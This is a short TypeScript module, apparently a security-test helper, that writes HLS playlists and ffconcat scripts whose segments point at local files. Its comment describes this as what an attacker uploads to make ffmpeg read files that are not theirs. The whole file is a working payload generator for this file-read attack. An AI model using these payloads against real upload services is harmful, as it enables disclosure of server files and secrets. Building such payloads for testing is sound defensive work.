import { writeFile } from 'node:fs/promises';

/**
 * An HLS playlist whose segments are `targets` (file:// URLs, absolute or relative paths), each declared 0.001 s long:
 * what an attacker uploads as `x.mp4` to make ffmpeg read files that are not theirs.
 */
export function playlistText(targets: string[]): string {
  const lines = ['#EXTM3U', '#EXT-X-VERSION:3', '#EXT-X-TARGETDURATION:1', '#EXT-X-MEDIA-SEQUENCE:0'];
  for (const target of targets) lines.push('#EXTINF:0.001,', target);
  return `${lines.join('\n')}\n#EXT-X-ENDLIST\n`;
}

export async function writePlaylist(path: string, targets: string[]): Promise<string> {
  await writeFile(path, playlistText(targets));
  return path;
}

/** An ffconcat script listing `targets`: another demuxer that opens other files. */
export async function writeConcatScript(path: string, targets: string[]): Promise<string> {
  await writeFile(path, `ffconcat version 1.0\n${targets.map((t) => `file '${t}'`).join('\n')}\n`);
  return path;
}
